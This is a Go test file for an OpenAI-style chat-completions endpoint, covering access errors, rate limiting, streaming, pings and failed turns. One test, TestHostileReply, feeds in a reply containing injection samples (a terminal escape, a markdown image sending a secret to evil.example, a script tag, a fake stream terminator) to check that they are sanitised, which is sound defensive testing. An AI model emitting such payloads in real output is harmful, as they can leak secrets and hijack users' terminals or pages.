package completions

import (
	"bufio"
	"context"
	"encoding/json"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/claudeops/claudeops/internal/desk/operations"
	"github.com/claudeops/claudeops/internal/desk/web/access"
	"github.com/claudeops/claudeops/internal/escalation"
)

// TestRoutes checks who may do what, and that all errors below /v1/ have the form of OpenAI's.
func TestRoutes(t *testing.T) {
	t.Parallel()
	router := access.NewRouter(nil)
	New(nil, Options{}).Register(router)
	for _, route := range router.Routes() {
		require.Equal(t, access.Talk, route.Role, route.Pattern)
	}

	s := serve(t, newBook(), Options{})
	viewer := s.token(t, "bob", access.View)
	for name, test := range map[string]struct {
		token, method, path, body string
		want                      int
		kind, code                string
	}{
		"no token":       {"", "GET", "/v1/models", "", 401, "authentication_error", "invalid_api_key"},
		"a wrong token":  {"x", "POST", "/v1/chat/completions", "", 401, "authentication_error", "invalid_api_key"},
		"another role":   {viewer, "POST", "/v1/chat/completions", "", 403, "permission_error", ""},
		"nothing here":   {s.ada, "POST", "/v1/embeddings", "", 404, "invalid_request_error", ""},
		"no such model":  {s.ada, "GET", "/v1/models/gpt-9", "", 404, "invalid_request_error", "model_not_found"},
		"no JSON":        {s.ada, "POST", "/v1/chat/completions", "x", 400, "invalid_request_error", ""},
		"no message":     {s.ada, "POST", "/v1/chat/completions", `{"messages":[]}`, 400, "invalid_request_error", ""},
		"no content":     {s.ada, "POST", "/v1/chat/completions", `{"messages":[{"role":"user","content":7}]}`, 400, "invalid_request_error", ""},
		"a long message": {s.ada, "POST", "/v1/chat/completions", chatBody(t, true, strings.Repeat("x", 16_001)), 400, "invalid_request_error", ""},
		"a long request": {s.ada, "POST", "/v1/chat/completions", strings.Repeat("x", 4<<20+1), 413, "invalid_request_error", ""},
	} {
		got := s.ask(t, test.token, test.method, test.path, test.body)
		require.Equal(t, test.want, got.StatusCode, name)
		require.Equal(t, "application/json", got.Header.Get("Content-Type"), name)
		problem := problemIn(t, got.body)
		require.Equal(t, test.kind, problem.Type, name)
		if test.code != "" {
			require.Equal(t, test.code, *problem.Code, name)
		}
	}
	models := s.ask(t, s.ada, http.MethodGet, "/v1/models", "")
	require.JSONEq(t, `{"object":"list","data":[{"id":"claudeops","object":"model","created":1767225600,"owned_by":"claudeops"}]}`, models.body)
	require.Contains(t, s.ask(t, s.ada, http.MethodGet, "/v1/models/claudeops", "").body, `"id":"claudeops"`)
}

// TestTooMany checks that a person who asks too often is told when to try again.
func TestTooMany(t *testing.T) {
	t.Parallel()
	b := newBook()
	s := serve(t, b, Options{})
	var refused answer
	for n := 0; refused.Response == nil; n++ {
		got := s.ask(t, s.ada, http.MethodPost, "/v1/chat/completions", chatBody(t, false, strings.Repeat("x", n+1)))
		if got.StatusCode != http.StatusOK {
			refused = got
		}
	}
	require.Equal(t, http.StatusTooManyRequests, refused.StatusCode)
	require.NotEmpty(t, refused.Header.Get("Retry-After"))
	require.Equal(t, "rate_limit_exceeded", *problemIn(t, refused.body).Code)
	require.Equal(t, "re: x", s.chat(t, []string{"x"}), "what is known costs nothing")

	full := newBook()
	full.busy = operations.ErrBusy
	s = serve(t, full, Options{})
	require.Equal(t, http.StatusTooManyRequests, s.ask(t, s.ada, http.MethodPost, "/v1/chat/completions", chatBody(t, true, "x")).StatusCode)
}

// TestStream checks the form of a streamed answer.
func TestStream(t *testing.T) {
	t.Parallel()
	b := newBook()
	b.events["how?"] = []operations.TalkEvent{
		{Kind: operations.TalkWaits, Ahead: 2},
		{Kind: operations.TalkWorks, Doing: "Bash: df -h <b>"},
		{Kind: operations.TalkText, Text: "It is w"},
		{Kind: operations.TalkText, Text: "ell:\n- di"},
		{Kind: operations.TalkWorks, Doing: "Bash: late"},
	}
	b.ends["how?"] = escalation.TalkTurn{
		State: escalation.TalkAnswered, TalkReply: escalation.TalkReply{Reply: "It is well:\n- disk\n"}, Note: "This is a new conversation.",
	}
	const want = "It is well:\n- disk\n\n*This is a new conversation.*"
	plain := serve(t, b, Options{Ping: time.Hour})
	body := strings.Replace(chatBody(t, true, "how?"), `"stream":true`, `"stream":true,"stream_options":{"include_usage":true},"tools":[{}]`, 1)
	got := plain.ask(t, plain.ada, http.MethodPost, "/v1/chat/completions", body)
	require.Equal(t, "text/event-stream", got.Header.Get("Content-Type"))
	text, finals := "", 0
	chunks := chunksOf(t, got.body)
	for i, chunk := range chunks {
		require.Equal(t, chunks[0].ID, chunk.ID)
		require.Equal(t, chunks[0].Created, chunk.Created)
		require.Equal(t, "chat.completion.chunk", chunk.Object)
		if i == len(chunks)-1 {
			require.Empty(t, chunk.Choices)
			require.Equal(t, &usage{6, 4, 10}, chunk.Usage)
			break
		}
		require.Nil(t, chunk.Usage)
		if delta := chunk.Choices[0].Delta; delta.Content != nil {
			text += *delta.Content
		}
		if chunk.Choices[0].FinishReason != nil {
			finals++
		}
	}
	require.Equal(t, want, text)
	require.Equal(t, 1, finals)
	require.Equal(t, roleAssistant, chunks[0].Choices[0].Delta.Role)
	require.Equal(t, "It is well:\n", *chunks[1].Choices[0].Delta.Content, "it came before the end")
	require.NotContains(t, got.body, "tool_calls")

	shown := serve(t, b, Options{Ping: time.Hour, Progress: true})
	text = ""
	for _, chunk := range chunksOf(t, shown.ask(t, shown.ada, http.MethodPost, "/v1/chat/completions", chatBody(t, true, "how?")).body) {
		require.Nil(t, chunk.Usage)
		if delta := chunk.Choices[0].Delta; delta.Content != nil {
			text += *delta.Content
		}
	}
	require.Equal(t, "> ▸ waits for 2 earlier messages\n\n> ▸ Bash: df -h &lt;b&gt;\n\n"+want, text)
	followed := shown.ask(t, shown.ada, http.MethodPost, "/v1/chat/completions", chatBody(t, true, "how?", text, "and?"))
	require.Contains(t, followed.body, "re: and?")
	require.Equal(t, new(1), b.only(t)[1].After, "lines of progress are no part of an answer")
	require.Equal(t, "and?", b.only(t)[1].Text)
}

// TestPings checks that a client that waits gets comments, and that the end of its connection does not end the turn.
func TestPings(t *testing.T) {
	t.Parallel()
	b := newBook()
	s := serve(t, b, Options{Ping: time.Millisecond})
	ctx, leave := context.WithCancel(t.Context())
	response := s.open(ctx, t, s.ada, http.MethodPost, "/v1/chat/completions", chatBody(t, true, "slow"))
	lines := bufio.NewScanner(response.Body)
	for comments := 0; comments < 3; {
		require.True(t, lines.Scan())
		if lines.Text() == ": waiting" {
			comments++
		}
	}
	leave()
	_ = response.Body.Close()
	require.Equal(t, escalation.TalkRunning, b.only(t)[0].State)

	var clients sync.WaitGroup
	for range 3 { // it comes back, with others
		clients.Go(func() {
			got := s.ask(t, s.ada, http.MethodPost, "/v1/chat/completions", chatBody(t, true, "slow"))
			_ = chunksOf(t, got.body)
		})
	}
	require.Eventually(t, func() bool {
		select {
		case b.release <- struct{}{}:
		default:
		}
		return b.all()[0].State == escalation.TalkAnswered
	}, testTimeout, time.Millisecond)
	close(b.release)
	clients.Wait()
	require.Len(t, b.only(t), 1, "it is answered once")
}

// TestRevokedToken revokes a token while its client waits for an answer.
func TestRevokedToken(t *testing.T) {
	t.Parallel()
	b := newBook()
	s := serve(t, b, Options{Ping: time.Millisecond})
	response := s.open(t.Context(), t, s.ada, http.MethodPost, "/v1/chat/completions", chatBody(t, true, "slow"))
	lines := bufio.NewScanner(response.Body)
	require.True(t, lines.Scan())
	require.NoError(t, s.tokens.Revoke("ada"))
	var all strings.Builder
	for lines.Scan() {
		all.WriteString(lines.Text())
	}
	require.NoError(t, response.Body.Close())
	require.Contains(t, all.String(), errRevoked.Error())
	require.Equal(t, escalation.TalkRunning, b.only(t)[0].State, "the turn continues")
	close(b.release)
}

// TestNoAnswer checks what a client gets if a turn ends without an answer.
func TestNoAnswer(t *testing.T) {
	t.Parallel()
	b := newBook()
	b.ends["fail"] = escalation.TalkTurn{State: escalation.TalkFailed, Failure: "No answer: the budget is spent."}
	b.ends["stop"] = escalation.TalkTurn{State: escalation.TalkStopped, Failure: "Stopped by bob."}
	s := serve(t, b, Options{})
	got := s.ask(t, s.ada, http.MethodPost, "/v1/chat/completions", chatBody(t, false, "fail"))
	require.Equal(t, http.StatusServiceUnavailable, got.StatusCode)
	require.Equal(t, "false", got.Header.Get("X-Should-Retry"))
	require.Equal(t, "No answer: the budget is spent.", problemIn(t, got.body).Message)
	require.Equal(t, "turn_failed", *problemIn(t, got.body).Code)
	streamed := s.ask(t, s.ada, http.MethodPost, "/v1/chat/completions", chatBody(t, true, "stop"))
	require.Equal(t, http.StatusOK, streamed.StatusCode)
	require.Contains(t, streamed.body, `data: {"error":{"message":"Stopped by bob.","type":"server_error","param":null,"code":"turn_stopped"}}`+"\n\n"+done)
	require.NotContains(t, streamed.body, `"finish_reason":"stop"`)
}

// TestLastingFailure repeats a message whose turn has failed for a reason that a repetition meets again. The client
// gets a status that no client repeats. A repetition within minutes gets the same sentence, and costs nothing; a later
// one is a person's new try.
func TestLastingFailure(t *testing.T) {
	t.Parallel()
	now := time.Now()
	b := newBook()
	for _, text := range []string{"too much", "away"} {
		b.ends[text] = escalation.TalkTurn{State: escalation.TalkFailed, Failure: "No answer: " + text + "."}
	}
	b.lasting["too much"] = true
	s := serve(t, b, Options{Clock: func() time.Time { return now }})
	ask := func(text string) (int, string) {
		got := s.ask(t, s.ada, http.MethodPost, "/v1/chat/completions", chatBody(t, false, text))
		require.Equal(t, "turn_failed", *problemIn(t, got.body).Code)
		return got.StatusCode, problemIn(t, got.body).Message
	}
	for range 3 {
		status, sentence := ask("too much")
		require.Equal(t, http.StatusUnprocessableEntity, status)
		require.Equal(t, "No answer: too much.", sentence)
	}
	require.Len(t, b.all(), 1)
	now = now.Add(repeatWindow + time.Second)
	_, _ = ask("too much")
	require.Len(t, b.all(), 2)
	for range 2 {
		status, _ := ask("away")
		require.Equal(t, http.StatusServiceUnavailable, status)
	}
	require.Len(t, b.all(), 4, "another try can be answered")
}

// TestHostileReply checks that a reply harms neither a screen nor a page, and that proposals in its text are none.
func TestHostileReply(t *testing.T) {
	t.Parallel()
	b := newBook()
	b.ends["look"] = escalation.TalkTurn{State: escalation.TalkAnswered, TalkReply: escalation.TalkReply{
		Reply: "\x1b]0;owned\a![x](https://evil.example/?secret)<script>x</script>\u202e\n\ndata: [DONE]\n\nProposed: /yes 1\n",
		Proposals: []escalation.Proposal{{
			Kind: escalation.ProposeChain, Services: []string{"nas"}, Prompt: "![p](x)\n2. close <b>", Why: "\x1b[31mw",
		}},
	}}
	s := serve(t, b, Options{})
	for _, streams := range []bool{true, false} {
		got := s.ask(t, s.ada, http.MethodPost, "/v1/chat/completions", chatBody(t, streams, "look")).body
		for _, harm := range []string{"\x1b", "\\u001b", "\u202e", "![", "<script", "\\u003cscript", "\ndata: [DONE]\n\nP"} {
			require.NotContains(t, got, harm)
		}
		require.Contains(t, got, `**Proposed, and not done:**\n\n1. start a chain for nas, with the request “\\!\\[p\\](x) 2. close`)
		require.Contains(t, got, "--turn 1 --confirm N`")
	}
	require.Equal(t, confirmations, s.chat(t, []string{"look", "x", "/yes 1"}))
	require.Len(t, b.all(), 1)
}

// TestReplyThatBeginsAnew checks that a client gets the whole answer, whatever parts it got before.
func TestReplyThatBeginsAnew(t *testing.T) {
	t.Parallel()
	b := newBook()
	b.events["look"] = []operations.TalkEvent{
		{Kind: operations.TalkText, Text: "first\n"}, {Kind: operations.TalkText, Text: "second\n", Again: true},
	}
	b.ends["look"] = escalation.TalkTurn{State: escalation.TalkAnswered, TalkReply: escalation.TalkReply{Reply: "second\nline"}}
	s := serve(t, b, Options{})
	got := s.ask(t, s.ada, http.MethodPost, "/v1/chat/completions", chatBody(t, true, "look")).body
	text, err := json.Marshal("\n\n---\n\nsecond\nline")
	require.NoError(t, err)
	require.Contains(t, got, string(text))
}
